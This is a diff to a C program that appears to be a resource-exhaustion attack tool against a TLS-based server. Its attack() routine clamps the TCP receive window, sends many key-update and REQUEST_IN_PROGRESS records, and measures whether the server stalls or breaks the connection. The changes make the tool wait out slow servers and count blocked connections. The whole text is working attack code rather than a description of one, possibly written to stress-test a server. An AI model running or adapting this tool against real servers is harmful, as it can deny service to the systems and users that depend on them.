@@ -74,6 +74,7 @@ struct peer {
 	size_t hello_len;
 	uint64_t sequence;
 	long paid;		/* bytes of the long message */
+	bool blocked;		/* when last something was to be written, the server did not read for a while */
 };
 
 static volatile sig_atomic_t stop;
@@ -111,17 +112,19 @@ static void keep_hello(int sent, int version, int type, const void *p, size_t le
 	}
 }
 
-/* Small segments and a small window: what the server has to say fills its side of the connection soon. */
+/* A small window: what the server has to say fills its side of the connection soon. The buffer behind it holds
+ * more, for a kernel that cannot keep what it has let come throws it away, acknowledgements included, and both sides
+ * stand still for seconds. */
 static int call(void)
 {
 	struct addrinfo hints = {.ai_flags = AI_NUMERICHOST | AI_NUMERICSERV, .ai_socktype = SOCK_STREAM}, *at;
-	int fd, segment = 536, window = 2304, one = 1;
+	int fd, buffer = 200000, window = 2304, one = 1;
 
 	if (getaddrinfo(how.address, how.port, &hints, &at) != 0 ||
 	    (fd = socket(at->ai_family, SOCK_STREAM | SOCK_CLOEXEC, 0)) < 0)
 		die("no socket");
-	setsockopt(fd, IPPROTO_TCP, TCP_MAXSEG, &segment, sizeof segment);
-	setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &window, sizeof window);
+	setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &buffer, sizeof buffer);
+	setsockopt(fd, IPPROTO_TCP, TCP_WINDOW_CLAMP, &window, sizeof window);
 	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
 	if (connect(fd, at->ai_addr, at->ai_addrlen) != 0) {
 		close(fd);
@@ -131,32 +134,40 @@ static int call(void)
 	return fd;
 }
 
-/* False when the server has broken the connection off. *blocked: nothing could be written for a while. */
-static bool wait_for(int fd, short what, int ms, bool *blocked)
+enum result { SENT, BLOCKED, BROKEN };
+
+/* BLOCKED: for so long there was nothing. */
+static enum result wait_for(int fd, short what, int ms)
 {
 	struct pollfd p = {.fd = fd, .events = (short)(what | POLLRDHUP)};
 	int n = poll(&p, 1, ms);
 
-	*blocked = n == 0;
-	return n <= 0 || (p.revents & (POLLERR | POLLHUP | POLLRDHUP)) == 0;
+	if (n > 0 && (p.revents & (POLLERR | POLLHUP | POLLRDHUP)) != 0)
+		return BROKEN;
+	return n > 0 ? SENT : BLOCKED;
 }
 
-enum result { SENT, BLOCKED, BROKEN };
-
-static enum result tls_result(const struct peer *p, int result)
+/* A server that was only slow reads on after a while, and then so much more is sent. */
+static enum result until_writable(struct peer *p)
 {
-	bool blocked;
+	long until = now_ms() + how.patience * 1000;
+	enum result result;
 
+	p->blocked = false;
+	while ((result = wait_for(p->fd, POLLOUT, BLOCKED_MS)) == BLOCKED && now_ms() < until && !stop)
+		p->blocked = true;
+	return result;
+}
+
+static enum result tls_result(struct peer *p, int result)
+{
 	if (result > 0)
 		return SENT;
-	if (SSL_get_error(p->ssl, result) != SSL_ERROR_WANT_WRITE ||
-	    !wait_for(p->fd, POLLOUT, BLOCKED_MS, &blocked))
-		return BROKEN;
-	return blocked ? BLOCKED : SENT;
+	return SSL_get_error(p->ssl, result) == SSL_ERROR_WANT_WRITE ? until_writable(p) : BROKEN;
 }
 
 /* Again and again, until it is all out. */
-static enum result put_data(const struct peer *p, const void *data, size_t len)
+static enum result put_data(struct peer *p, const void *data, size_t len)
 {
 	enum result result;
 	int n;
@@ -167,7 +178,7 @@ static enum result put_data(const struct peer *p, const void *data, size_t len)
 	return result;
 }
 
-static enum result put_key_update(const struct peer *p)
+static enum result put_key_update(struct peer *p)
 {
 	enum result result;
 	int n;
@@ -181,19 +192,19 @@ static enum result put_key_update(const struct peer *p)
 	return result;
 }
 
-static enum result put_raw(const struct peer *p, const unsigned char *from, size_t len)
+static enum result put_raw(struct peer *p, const unsigned char *from, size_t len)
 {
 	while (len > 0) {
 		ssize_t n = send(p->fd, from, len, MSG_DONTWAIT | MSG_NOSIGNAL);
-		bool blocked = false;
+		enum result result = SENT;
 
 		if (n > 0) {
 			from += n;
 			len -= (size_t)n;
-		} else if (errno != EAGAIN || !wait_for(p->fd, POLLOUT, BLOCKED_MS, &blocked))
-			return BROKEN;
-		if (blocked)
-			return BLOCKED;
+		} else
+			result = errno == EAGAIN ? until_writable(p) : BROKEN;
+		if (result != SENT)
+			return result;
 	}
 	return SENT;
 }
@@ -249,7 +260,7 @@ static enum result put_record(struct peer *p, unsigned char type, const unsigned
 }
 
 /* REQUEST_IN_PROGRESS with elements of tag 200, all empty. */
-static enum result put_elements(const struct peer *p)
+static enum result put_elements(struct peer *p)
 {
 	unsigned char m[8 + 3 * ELEMENTS] = {0x55, 17, p->session[0], p->session[1], p->session[2],
 	    p->session[3], 0, 3 * ELEMENTS};
@@ -364,7 +375,6 @@ static void attack(SSL_CTX *ctx, long number)
 	long start = now_ms(), lasted, longest = sum->longest_ms;
 	struct peer p = {.fd = -1};
 	enum result result = SENT;
-	bool blocked = false;
 	long until;
 
 	if (!open_tls(&p, ctx)) {
@@ -384,11 +394,10 @@ static void attack(SSL_CTX *ctx, long number)
 	for (long i = 0; i < how.records && result == SENT && !stop; i++)
 		if ((result = put_one(&p)) == SENT)
 			sum->sent++;
-	sum->blocked += result == BLOCKED;
+	sum->blocked += p.blocked;
 	until = now_ms() + how.patience * 1000;
 	while (result != BROKEN && now_ms() < until && !stop)
-		if (!wait_for(p.fd, 0, 1000, &blocked))
-			result = BROKEN;
+		result = wait_for(p.fd, 0, 1000);
 	sum->ended += result == BROKEN;
 	lasted = now_ms() - start;
 	while (lasted > longest && !atomic_compare_exchange_weak(&sum->longest_ms, &longest, lasted))
